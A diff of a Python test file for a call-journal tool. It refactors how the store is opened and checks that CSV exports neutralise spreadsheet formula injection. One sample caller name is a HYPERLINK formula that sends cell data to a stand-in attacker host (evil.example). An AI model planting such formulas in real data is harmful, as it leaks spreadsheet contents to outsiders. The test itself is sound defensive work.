@@ -18,8 +18,9 @@ from hypothesis import strategies as st
 
 from cti.directory import Contact
 from cti.safe_text import csv_cell, csv_value
-from store.sqlite import SqliteStore
-from tests.daemon.conftest import cti, write_config
+from store import StoreSettings, open_store
+from tests.cli_runner import cti
+from tests.daemon.conftest import write_config
 from tests.store.builders import make_call, missed_for
 
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
@@ -44,7 +45,7 @@ def looks_dangerous(value: str) -> bool:
 
 def contacts_of(store_path: Path) -> list[tuple[object, ...]]:
     async def go() -> list[Contact]:
-        async with SqliteStore.open(store_path) as store:
+        async with open_store(StoreSettings(path=store_path), region="RU") as store:
             return await store.list_contacts()
 
     return sorted((c.external_id, c.name, c.kind, c.phones, c.email, c.notes,
@@ -91,7 +92,7 @@ def test_the_journal_and_register_csv_neutralise_caller_names_not_numbers(tmp_pa
     name = '=HYPERLINK("https://evil.example/?"&A2,"Call me back")'
 
     async def fill() -> None:
-        async with SqliteStore.open(tmp_path / "journal.sqlite") as store:
+        async with open_store(StoreSettings(path=tmp_path / "journal.sqlite"), region="RU") as store:
             record = make_call("1795479242.0", caller="+79161234567", caller_name=name, queue="@support",
                                hangup_cause_txt="-Normal Clearing")
             store.stage_call(record, missed_for(record), ())
